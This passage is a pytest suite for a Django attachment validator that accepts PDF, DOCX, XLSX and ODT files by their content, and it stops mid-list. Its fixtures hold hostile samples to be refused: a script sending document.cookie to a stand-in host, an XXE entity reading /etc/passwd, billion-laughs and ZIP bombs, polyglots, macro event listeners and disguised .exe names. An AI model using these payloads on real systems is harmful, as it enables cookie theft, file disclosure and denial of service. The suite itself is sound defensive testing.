"""Attachments are accepted by what they contain, within the size limit, under a safe name."""

import hashlib
import io
import struct
import unicodedata
import zipfile

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.utils import translation
from hypothesis import example, given, settings
from hypothesis import strategies as st

from regionet.applications import uploads
from regionet.applications.uploads import (
    ALLOWED_KINDS,
    AttachmentField,
    CheckedUpload,
    check_upload,
    detect_kind,
    sanitise_filename,
)
from tests.factories.documents import make_pdf, ole_file, padded_pdf, vba_project

MB = 1024 * 1024
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT_TYPE = "application/vnd.oasis.opendocument.text"
WORD_MAIN = DOCX_TYPE + ".main+xml"
EXCEL_MAIN = XLSX_TYPE.replace(".sheet", ".sheet.main+xml")


# --- Documents built in the test ---------------------------------------------------------


@pytest.fixture(autouse=True)
def english():
    """Messages are lazy and read after the refusal: English for the whole test, whatever
    language an earlier test left active."""
    with translation.override("en"):
        yield


def make_zip(members, *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of ``members`` (name → bytes, or name → (bytes, compress type)), in order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            data, method = content if isinstance(content, tuple) else (content, compression)
            archive.writestr(zipfile.ZipInfo(name, (2021, 6, 2, 16, 15, 0)), data, method)
    return buffer.getvalue()


def content_types(*overrides, defaults=()) -> bytes:
    parts = [
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
        '<Default Extension="xml" ContentType="application/xml"/>',
    ]
    parts += [f'<Default Extension="{ext}" ContentType="{ct}"/>' for ext, ct in defaults]
    parts += [f'<Override PartName="{part}" ContentType="{ct}"/>' for part, ct in overrides]
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(parts)
        + "</Types>"
    ).encode()


def package_rels(target: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/officeDocument" Target="{target}"/></Relationships>'
    ).encode()


WORD_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Hankesuunnitelma</w:t></w:r></w:p></w:body></w:document>"
)


def docx_members(main_type: str = WORD_MAIN, *, extra_types=()) -> dict:
    return {
        "[Content_Types].xml": content_types(("/word/document.xml", main_type), *extra_types),
        "_rels/.rels": package_rels("word/document.xml"),
        "word/document.xml": WORD_DOCUMENT,
    }


def make_docx(**kwargs) -> bytes:
    return make_zip(docx_members(**kwargs))


def make_xlsx() -> bytes:
    return make_zip(xlsx_members())


def xlsx_members() -> dict:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return {
        "[Content_Types].xml": content_types(
            ("/xl/workbook.xml", EXCEL_MAIN),
            (
                "/xl/worksheets/sheet1.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            ),
        ),
        "_rels/.rels": package_rels("xl/workbook.xml"),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<workbook xmlns="{main}" xmlns:r="{relationships}"><sheets>'
            f'<sheet name="Budjetti" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org'
            b'/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            b"</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<worksheet xmlns="{main}"><sheetData><row r="1">'
            f'<c r="A1"><v>7000000</v></c></row></sheetData></worksheet>'
        ).encode(),
    }


ODT_MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    b' manifest:version="1.2">'
    b'<manifest:file-entry manifest:full-path="/" manifest:media-type="'
    + ODT_TYPE.encode()
    + b'"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    b"</manifest:manifest>"
)
ODT_CONTENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
    b"<office:body><office:text><text:p>Hankesuunnitelma</text:p></office:text></office:body>"
    b"</office:document-content>"
)


def odt_members(mimetype: bytes = ODT_TYPE.encode(), *, stored: bool = True) -> dict:
    return {
        "mimetype": (mimetype, zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED),
        "content.xml": ODT_CONTENT,
        "META-INF/manifest.xml": ODT_MANIFEST,
    }


def make_odt(**kwargs) -> bytes:
    return make_zip(odt_members(**kwargs))


def mark_encrypted(archive: bytes, member: str) -> bytes:
    """Set the "encrypted" flag of ``member`` in its local header and central directory."""
    data = bytearray(archive)
    name = member.encode()
    for signature, flag_offset, name_offset in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            if data[start + name_offset : start + name_offset + len(name)] == name:
                (flags,) = struct.unpack_from("<H", data, start + flag_offset)
                struct.pack_into("<H", data, start + flag_offset, flags | 0x1)
            start += 4
    return bytes(data)


def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def error_code(file, **kwargs) -> str:
    with pytest.raises(ValidationError) as raised:
        check_upload(file, **kwargs)
    return raised.value.code


# --- Accepted documents -------------------------------------------------------------------


def test_allowed_kinds_name_their_canonical_extension_and_content_type():
    assert {kind: (k.extension, k.content_type) for kind, k in ALLOWED_KINDS.items()} == {
        "pdf": (".pdf", "application/pdf"),
        "docx": (".docx", DOCX_TYPE),
        "xlsx": (".xlsx", XLSX_TYPE),
        "odt": (".odt", ODT_TYPE),
    }


@pytest.mark.parametrize(
    ("name", "build", "kind", "content_type"),
    [
        ("Hankesuunnitelma.pdf", make_pdf, "pdf", "application/pdf"),
        ("Hankesuunnitelma.docx", make_docx, "docx", DOCX_TYPE),
        ("Budjetti 2021–2023.xlsx", make_xlsx, "xlsx", XLSX_TYPE),
        ("Sitoumus.odt", make_odt, "odt", ODT_TYPE),
    ],
)
def test_a_valid_document_is_accepted_with_its_kind_size_and_hash(name, build, kind, content_type):
    content = build()
    # The browser's content type plays no part.
    checked = check_upload(upload(name, content, "text/html"))

    assert checked == CheckedUpload(
        kind=kind,
        content_type=content_type,
        safe_name=sanitise_filename(name),
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
    )


def on_disk(name: str, content: bytes) -> TemporaryUploadedFile:
    file = TemporaryUploadedFile(name, "application/octet-stream", len(content), None)
    file.write(content)
    file.seek(0)
    return file


def test_the_hash_and_size_are_of_the_whole_content_read_in_chunks():
    content = padded_pdf(204_816)
    with on_disk("iso.pdf", content) as file:
        checked = check_upload(file)
        assert file.tell() == 0

    assert checked.size == 204_816
    assert checked.sha256 == hashlib.sha256(content).hexdigest()


def test_a_plain_binary_file_object_is_checked_too():
    content = make_docx()
    file = io.BytesIO(content)

    checked = check_upload(file, max_bytes=len(content))

    assert (checked.kind, checked.safe_name, checked.size) == (
        "docx",
        "attachment.docx",
        len(content),
    )
    assert file.tell() == 0


def test_a_document_on_disk_is_recognised():
    content = make_xlsx()
    with on_disk("Budjetti.xlsx", content) as file:
        checked = check_upload(file)

    assert (checked.kind, checked.size) == ("xlsx", len(content))


@pytest.mark.parametrize(
    ("name", "safe_name"),
    [
        ("HANKE.PDF", "HANKE.pdf"),
        ("Hankesuunnitelma", "Hankesuunnitelma.pdf"),
        ("Budjetti v2.1", "Budjetti v2.1.pdf"),
        ("", "attachment.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
    ],
)
def test_the_safe_name_ends_in_the_canonical_extension(name, safe_name):
    file = upload(name, make_pdf()) if name else io.BytesIO(make_pdf())

    assert check_upload(file).safe_name == safe_name


def test_a_pdf_with_trailing_bytes_is_accepted():
    # Some programs pad the file after the end marker; a PDF reader opens it.
    content = make_pdf() + b"\r\n" + b"\x00" * 1024
    assert detect_kind(io.BytesIO(content)) == "pdf"


def test_a_pdf_behind_a_preamble_is_not_a_pdf():
    """Readers that look for the header in the first kilobyte would open it, but so would a
    browser or a shell whatever comes first: the file is what its first bytes say."""
    content = b"\xef\xbb\xbf" + make_pdf()
    assert detect_kind(io.BytesIO(content)) is None


def test_detect_kind_rewinds_the_file():
    file = io.BytesIO(make_odt())
    file.seek(17)
    assert detect_kind(file) == "odt"
    assert file.tell() == 0


# --- Refused content ----------------------------------------------------------------------


def test_a_pdf_named_docx_is_refused_as_a_name_mismatch():
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload("Hankesuunnitelma.docx", make_pdf()))

    assert raised.value.code == "name_mismatch"
    assert raised.value.messages == [
        "The content of the file Hankesuunnitelma.docx is not what its name says: the name "
        "ends in .docx, but the content is PDF. Rename the file or choose the right one."
    ]


@pytest.mark.parametrize(
    ("name", "build"),
    [("Budjetti.xlsx", make_docx), ("Sitoumus.docx", make_odt), ("liite.odt", make_xlsx)],
)
def test_documents_of_another_kind_are_name_mismatches(name, build):
    assert error_code(upload(name, build())) == "name_mismatch"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 500 + b"%%EOF", id="exe"),
        pytest.param(
            b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", id="html"
        ),
        pytest.param(b" " * 1024 + make_pdf(), id="pdf-magic-after-1024-bytes"),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, id="legacy-doc"),
        pytest.param(make_zip({"README.txt": b"hello"}), id="plain-zip"),
        pytest.param(make_zip({"[Content_Types].xml": content_types()}), id="ooxml-no-main"),
        pytest.param(b"PK\x03\x04 not really a zip", id="broken-zip"),
        pytest.param(make_odt(stored=False), id="odt-mimetype-compressed"),
        pytest.param(
            make_odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"), id="ods"
        ),
        pytest.param(
            make_zip({"content.xml": ODT_CONTENT, **odt_members()}), id="mimetype-not-first"
        ),
        pytest.param(
            make_docx(
                main_type="application/vnd.openxmlformats-officedocument"
                ".wordprocessingml.template.main+xml"
            ),
            id="dotx",
        ),
    ],
)
def test_content_that_is_no_allowed_document_is_refused(content):
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload("liite.pdf", content))

    assert raised.value.code == "unsupported_type"
    assert raised.value.messages == [
        "The file liite.pdf is not a PDF, Word (DOCX), Excel (XLSX) or OpenDocument text (ODT) "
        "file."
    ]


HTML_WITH_PDF_MARKERS = (
    b"<!DOCTYPE html><html><head><title>%PDF-1.7</title></head>"
    b"<body><script>document.location='https://example.invalid/'+document.cookie</script>"
    b"</body></html>\n%%EOF\n"
)
PROGRAM_WITH_PDF_MARKERS = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"%PDF-1.7\n"
    + b"PE\x00\x00" * 100
    + b"\n%%EOF\n"
)
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<!-- %PDF-1.7 --><script>alert(document.domain)</script></svg>\n<!-- %%EOF -->\n"
)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(HTML_WITH_PDF_MARKERS, id="html-with-pdf-markers"),
        pytest.param(PROGRAM_WITH_PDF_MARKERS, id="program-with-pdf-markers"),
        pytest.param(SVG_WITH_SCRIPT, id="svg-with-script"),
        # A whole valid PDF behind the page or the program: a polyglot.
        pytest.param(b"<html><script>alert(1)</script>" + make_pdf(), id="html-then-pdf"),
        pytest.param(PROGRAM_WITH_PDF_MARKERS[:64] + make_pdf(), id="program-then-pdf"),
    ],
)
def test_pages_programs_and_images_that_carry_pdf_markers_are_refused(content):
    with pytest.raises(ValidationError) as raised:
        check_upload(upload("Hankesuunnitelma.pdf", content))

    assert raised.value.code == "unsupported_type"
    assert raised.value.messages == [
        "The file Hankesuunnitelma.pdf is not a PDF, Word (DOCX), Excel (XLSX) or "
        "OpenDocument text (ODT) file."
    ]


UNREADABLE = (
    "The file {name} could not be opened: it is damaged, or built in a way that is not "
    "accepted. Save it again in the program that made it and upload the new copy."
)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", id="no-end"),
        pytest.param(b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n", id="no-root"),
        pytest.param(b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n", id="html"),
        pytest.param(make_pdf()[:400], id="truncated"),
        pytest.param(
            make_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"), id="no-page"
        ),
    ],
)
def test_a_pdf_that_does_not_open_is_refused_naming_the_file(content):
    with pytest.raises(ValidationError) as raised:
        check_upload(upload("Hankesuunnitelma.pdf", content))

    assert raised.value.code == "unreadable"
    assert raised.value.messages == [UNREADABLE.format(name="Hankesuunnitelma.pdf")]


def test_the_refusal_is_in_the_users_language():
    with translation.override("fi"):
        with pytest.raises(ValidationError) as raised:
            check_upload(upload("liite.pdf", b"%PDF-1.7\n%%EOF\n"))
        messages = raised.value.messages

    assert messages == [
        "Tiedostoa liite.pdf ei voitu avata: se on vioittunut tai tehty tavalla, jota ei "
        "hyväksytä. Tallenna se uudelleen ohjelmalla, jolla se on tehty, ja lataa uusi kopio."
    ]


def test_an_empty_file_is_refused():
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload("tyhjä.pdf", b""))

    assert (raised.value.code, raised.value.messages) == (
        "empty",
        ["The file tyhjä.pdf is empty."],
    )


# --- Size --------------------------------------------------------------------------------


def test_exactly_the_default_limit_is_accepted_and_one_byte_more_refused(settings):
    del settings.REGIONET_MAX_UPLOAD_BYTES  # the default, not the project's setting
    assert uploads.max_upload_bytes() == 20 * MB

    checked = check_upload(upload("iso.pdf", padded_pdf(20 * MB)))
    assert (checked.kind, checked.size) == ("pdf", 20 * MB)

    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload("iso.pdf", padded_pdf(20 * MB + 1)))
    assert raised.value.code == "too_large"
    assert raised.value.messages == ["The file iso.pdf is too large: 20.1 MB. The limit is 20 MB."]


def test_the_message_names_the_size_and_the_limit_in_megabytes():
    file = upload("iso.pdf", b"")
    file.size = int(25.3 * MB)  # the upload handler's count; nothing is read before the check

    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(file)

    assert raised.value.messages == ["The file iso.pdf is too large: 25.3 MB. The limit is 20 MB."]


def test_the_size_in_the_message_uses_the_languages_decimal_separator(settings):
    settings.REGIONET_MAX_UPLOAD_BYTES = int(1.5 * MB)
    file = upload("iso.pdf", b"")
    file.size = int(2.25 * MB)

    with translation.override("fi"), pytest.raises(ValidationError) as raised:
        check_upload(file)

    assert raised.value.params == {"name": "iso.pdf", "size": "2,3", "limit": "1,5"}


def test_the_setting_sets_the_limit(settings):
    settings.REGIONET_MAX_UPLOAD_BYTES = 1000
    assert check_upload(upload("a.pdf", padded_pdf(1000))).size == 1000
    assert error_code(upload("a.pdf", padded_pdf(1001))) == "too_large"


def test_the_limit_holds_for_file_objects_without_a_declared_size():
    assert check_upload(io.BytesIO(padded_pdf(600)), max_bytes=600).size == 600
    assert error_code(io.BytesIO(padded_pdf(601)), max_bytes=600) == "too_large"


def test_a_declared_size_below_the_content_does_not_get_past_the_limit():
    file = upload("a.pdf", padded_pdf(2000))
    file.size = 10

    assert error_code(file, max_bytes=1000) == "too_large"


# --- Archives ------------------------------------------------------------------------------


def test_a_member_that_unpacks_more_than_a_hundredfold_is_a_bomb():
    members = docx_members()
    members["word/media/padding.bin"] = b"\x00" * (2 * MB)
    bomb = make_zip(members)
    assert len(bomb) < 20_000

    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload("pommi.docx", bomb))

    assert raised.value.code == "archive_bomb"
    assert raised.value.messages == [
        "The file pommi.docx was not accepted: its packed content unpacks to an unusually "
        "large size."
    ]


def test_small_parts_may_compress_well_beyond_a_hundredfold():
    members = docx_members()
    members["word/styles.xml"] = b"<w:style/>" * 50_000  # 500 kB, compresses ~1000:1

    assert check_upload(upload("tyylit.docx", make_zip(members))).kind == "docx"


def test_the_total_unpacked_size_is_limited(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_UNPACKED_BYTES", 300_000)
    members = docx_members()
    # Random bytes do not compress: three 120 kB members unpack to 360 kB at ratio ~1.
    for number in range(3):
        members[f"word/media/image{number}.png"] = hashlib.shake_256(b"%d" % number).digest(120_000)
    archive = make_zip(members)

    assert error_code(upload("kuvat.docx", archive)) == "archive_bomb"
    monkeypatch.setattr(uploads, "MAX_UNPACKED_BYTES", 400_000)
    assert check_upload(upload("kuvat.docx", archive)).kind == "docx"


def test_too_many_members_is_a_bomb(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_ZIP_MEMBERS", 5)
    members = docx_members()
    members.update({f"word/part{n}.xml": b"<p/>" for n in range(3)})

    assert error_code(upload("osat.docx", make_zip(members))) == "archive_bomb"


def billion_laughs(root: bytes) -> bytes:
    """An XML part whose entities expand to 10⁹ copies of "lol" (and ``root`` around them)."""
    entities = [b'<!ENTITY lol0 "lol">'] + [
        b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10)
    ]
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE root ['
        + b"".join(entities)
        + b"]>\n"
        + root.replace(b"></", b">&lol9;</", 1)
    )


EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>"
)


@pytest.mark.parametrize(
    ("name", "members"),
    [
        (
            "pommi.docx",
            {**docx_members(), "word/document.xml": billion_laughs(WORD_DOCUMENT.split(b"\n")[1])},
        ),
        (
            "pommi.xlsx",
            {
                **xlsx_members(),
                "[Content_Types].xml": billion_laughs(
                    xlsx_members()["[Content_Types].xml"].split(b"\n")[1]
                ),
            },
        ),
        (
            "pommi.odt",
            {**odt_members(), "content.xml": billion_laughs(ODT_CONTENT.split(b"\n")[1])},
        ),
        ("ulkoinen.docx", {**docx_members(), "word/document.xml": EXTERNAL_ENTITY}),
    ],
    ids=["docx-main-part", "xlsx-content-types", "odt-content", "external-entity"],
)
def test_xml_bombs_and_external_entities_are_refused(name, members):
    with pytest.raises(ValidationError) as raised:
        check_upload(upload(name, make_zip(members)))

    assert raised.value.code == "unreadable"
    assert raised.value.messages == [UNREADABLE.format(name=name)]


@pytest.mark.parametrize(
    ("name", "build"),
    [
        (
            "rikki.docx",
            lambda: make_zip({**docx_members(), "word/document.xml": WORD_DOCUMENT[:-30]}),
        ),
        (
            "rikki.docx",
            lambda: make_zip(
                {**docx_members(), "word/document.xml": b"<html><body>Hei</body></html>"}
            ),
        ),
        (
            "rikki.docx",
            lambda: make_zip({k: v for k, v in docx_members().items() if k != "_rels/.rels"}),
        ),
        (
            "rikki.docx",
            lambda: make_zip({**docx_members(), "_rels/.rels": package_rels("word/muu.xml")}),
        ),
        (
            # A damaged member: its checksum does not match.
            "rikki.docx",
            lambda: make_zip(docx_members(), compression=zipfile.ZIP_STORED).replace(
                b"<w:t>Hankesuunnitelma", b"<w:t>Hankesuunnitelmx"
            ),
        ),
        (
            "rikki.xlsx",
            lambda: make_zip({**xlsx_members(), "xl/workbook.xml": WORD_DOCUMENT}),
        ),
        ("rikki.odt", lambda: make_zip({**odt_members(), "content.xml": b"\x89PNG\r\n"})),
        (
            "rikki.odt",
            lambda: make_zip(
                {k: v for k, v in odt_members().items() if k != "META-INF/manifest.xml"}
            ),
        ),
    ],
    ids=[
        "docx-truncated-xml",
        "docx-main-part-not-word",
        "docx-no-relationships",
        "docx-relationship-elsewhere",
        "docx-bad-checksum",
        "xlsx-main-part-not-excel",
        "odt-content-not-xml",
        "odt-no-manifest",
    ],
)
def test_a_package_that_does_not_open_is_refused_naming_the_file(name, build):
    with pytest.raises(ValidationError) as raised:
        check_upload(upload(name, build()))

    assert raised.value.code == "unreadable"
    assert raised.value.messages == [UNREADABLE.format(name=name)]


def office_encrypted(document: bytes) -> bytes:
    """The document as Office saves it with the password to open "salasana" (ECMA-376
    agile encryption, written by msoffcrypto-tool)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    encrypted = io.BytesIO()
    OOXMLFile(io.BytesIO(document)).encrypt("salasana", encrypted)
    return encrypted.getvalue()


def test_a_legacy_office_file_without_a_password_is_no_allowed_document():
    document = ole_file({"WordDocument": b"\xec\xa5" + b"\x00" * 100})
    assert error_code(upload("vanha.doc", document)) == "unsupported_type"


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("salainen.docx", lambda: mark_encrypted(make_docx(), "word/document.xml")),
        ("salainen.odt", lambda: mark_encrypted(make_odt(), "content.xml")),
        (
            "salainen.odt",
            lambda: make_zip(
                {
                    **odt_members(),
                    "META-INF/manifest.xml": ODT_MANIFEST.replace(
                        b'media-type="text/xml"/>',
                        b'media-type="text/xml"><manifest:encryption-data '
                        b'manifest:checksum-type="SHA1/1K"/></manifest:file-entry>',
                    ),
                }
            ),
        ),
        # A DOCX saved with a password to open is an OLE file around the encrypted ZIP.
        ("salainen.docx", lambda: office_encrypted(make_docx())),
        ("salainen.xlsx", lambda: office_encrypted(make_xlsx())),
    ],
    ids=["zip-member", "odt-member", "odf-manifest", "docx-password", "xlsx-password"],
)
def test_encrypted_documents_are_refused(name, build):
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload(name, build()))

    assert raised.value.code == "encrypted"
    assert raised.value.messages == [
        f"The file {name} is password-protected or encrypted, so it cannot be read. "
        "Save a copy without a password and upload that."
    ]


def test_the_encrypted_fixture_differs_from_a_valid_document_only_by_its_flag():
    assert check_upload(upload("avoin.docx", make_docx())).kind == "docx"
    encrypted = mark_encrypted(make_docx(), "word/document.xml")
    assert len(encrypted) == len(make_docx())
    assert sum(a != b for a, b in zip(encrypted, make_docx(), strict=True)) == 2


VBA = "application/vnd.ms-office.vbaProject"


@pytest.mark.parametrize(
    ("name", "members"),
    [
        ("makrot.docx", {**docx_members(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        (
            "makrot.docx",
            docx_members(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        (
            "makrot.docm",
            {
                **docx_members(
                    main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
                    extra_types=[("/word/vbaProject.bin", VBA)],
                ),
                "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
            },
        ),
        (
            "makrot.xlsx",
            {
                **docx_members(main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            },
        ),
        (
            "makrot.xlsx",
            {
                **docx_members(extra_types=[("/xl/macrosheets/sheet1.xml", "application/xml")]),
                "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>",
            },
        ),
        (
            "makrot.odt",
            {
                **odt_members(),
                "Basic/script-lc.xml": b"<library:libraries/>",
                "Basic/Standard/script-lb.xml": b"<library:library/>",
                "Basic/Standard/Module1.xml": b"<script:module>Sub Main</script:module>",
            },
        ),
        ("makrot.odt", {**odt_members(), "Scripts/python/run.py": b"import os"}),
        (
            "makrot.docx",
            {
                **docx_members(extra_types=[("/word/vbaProject.bin", VBA)]),
                "word/vbaProject.bin": vba_project(),
            },
        ),
        # Office finds the project by a relationship, whatever the part's name.
        ("makrot.docx", {**docx_members(), "word/media/image1.png": vba_project()}),
        ("makrot.xlsx", {**xlsx_members(), "xl/printerSettings1.bin": vba_project()}),
        ("makrot.odt", {**odt_members(), "Object 1/Ole10Native": vba_project()}),
        (
            "makrot.odt",
            {
                **odt_members(),
                "content.xml": ODT_CONTENT.replace(
                    b"<office:body>",
                    b'<office:scripts xmlns:script="urn:oasis:names:tc:opendocument:xmlns:'
                    b'script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
                    b'<office:event-listeners><script:event-listener script:language="ooo:script"'
                    b' script:event-name="dom:load" xlink:href="vnd.sun.star.script:'
                    b'Tools.Misc.Run?language=Basic&amp;location=application"/>'
                    b"</office:event-listeners></office:scripts><office:body>",
                ),
            },
        ),
        (
            "makrot.odt",
            {
                **odt_members(),
                "content.xml": ODT_CONTENT.replace(
                    b"<text:p>Hankesuunnitelma</text:p>",
                    b'<text:p><text:a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href='
                    b'" vnd.sun.star.script:pythonSamples|TableSample.py$createTable'
                    b'?language=Python&amp;location=share">Avaa</text:a></text:p>',
                ),
            },
        ),
    ],
    ids=[
        "vba-part",
        "docm-type",
        "docm",
        "xlsm-type",
        "excel4-macrosheet",
        "odt-basic",
        "odt-py",
        "vba-project",
        "vba-project-renamed",
        "vba-project-in-xlsx",
        "vba-project-in-odt",
        "odt-event-listener",
        "odt-script-link",
    ],
)
def test_documents_with_macros_are_refused(name, members):
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload(name, make_zip(members)))

    assert raised.value.code == "macros"
    assert raised.value.messages == [
        f"The file {name} contains macros, which are not accepted. "
        "Save a copy without macros and upload that."
    ]


def test_an_odt_with_empty_basic_libraries_has_no_macros():
    members = {
        **odt_members(),
        "Basic/script-lc.xml": b"<library:libraries/>",
        "Basic/Standard/script-lb.xml": b"<library:library/>",
    }
    assert check_upload(upload("tyhjät.odt", make_zip(members))).kind == "odt"


def test_a_main_part_typed_by_default_extension_counts():
    members = {
        "[Content_Types].xml": content_types(defaults=[("xml", WORD_MAIN)]).replace(
            b'<Default Extension="xml" ContentType="application/xml"/>', b""
        ),
        "_rels/.rels": package_rels("word/document.xml"),
        "word/document.xml": WORD_DOCUMENT,
    }
    assert detect_kind(io.BytesIO(make_zip(members))) == "docx"


def test_duplicate_member_names_are_not_accepted():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, pytest.warns(UserWarning, match="Duplicate"):
        for name, data in docx_members().items():
            archive.writestr(name, data)
        archive.writestr("[Content_Types].xml", b"<Types/>")

    assert detect_kind(io.BytesIO(buffer.getvalue())) is None


# --- Names ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "extension"),
    [
        ("tarjous.pdf.exe", ".exe"),
        ("tarjous.exe.pdf", ".exe"),
        ("tarjous.JS.pdf", ".js"),
        ("liite.bat.docx", ".bat"),
        ("liite.cmd.docx", ".cmd"),
        ("liite.scr.pdf", ".scr"),
        ("liite.vbs.pdf", ".vbs"),
        ("liite.ps1.pdf", ".ps1"),
        ("asennus.sh.pdf", ".sh"),
        ("sivu.html.pdf", ".html"),
        ("kuva.svg.pdf", ".svg"),
        ("tarjous.pdf.exe. . ", ".exe"),
        ("tarjous.exe .pdf", ".exe"),
        ("tarjous.php.pdf", ".php"),
        ("tarjous.e\u200bxe.pdf", ".exe"),
    ],
)
def test_names_with_program_or_script_extensions_are_refused(name, extension):
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload(name, make_pdf()))

    assert raised.value.code == "dangerous_name"
    assert raised.value.messages == [
        f"The file name contains {extension}, the extension of a program or script. "
        "Rename the file and upload it again."
    ]


@pytest.mark.parametrize(
    "name", ["tarjous\x00.pdf", "tarjous.pdf\x00.exe", "tarjous\u202efdp.exe.pdf", "a\u2066.pdf"]
)
def test_names_with_nul_or_direction_controls_are_refused(name):
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload(name, make_pdf()))

    assert raised.value.code == "dangerous_name"
    assert raised.value.messages == [
        "The file name contains characters that are not allowed. "
        "Rename the file and upload it again."
    ]


@pytest.mark.parametrize("name", ["example.com.pdf", "exe.pdf", "Liite 3. js-kaavio.pdf"])
def test_names_that_only_resemble_dangerous_ones_are_accepted(name):
    assert check_upload(upload(name, make_pdf())).safe_name == name


def test_the_name_is_checked_before_the_content_is_read():
    file = upload("tarjous.exe.pdf", b"")
    file.size = 100 * MB

    assert error_code(file) == "dangerous_name"


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        # The en dash becomes a hyphen; letters of Finnish and Swedish stay.
        ("Hankesuunnitelma – liite ä.pdf", "Hankesuunnitelma - liite ä.pdf"),
        ("Årsrapport 2024—2025 (slutlig).odt", "Årsrapport 2024-2025 (slutlig).odt"),
        ("Pa\u0308a\u0308to\u0308s.pdf", "Päätös.pdf"),
        ("résumé_final.docx", "résumé_final.docx"),
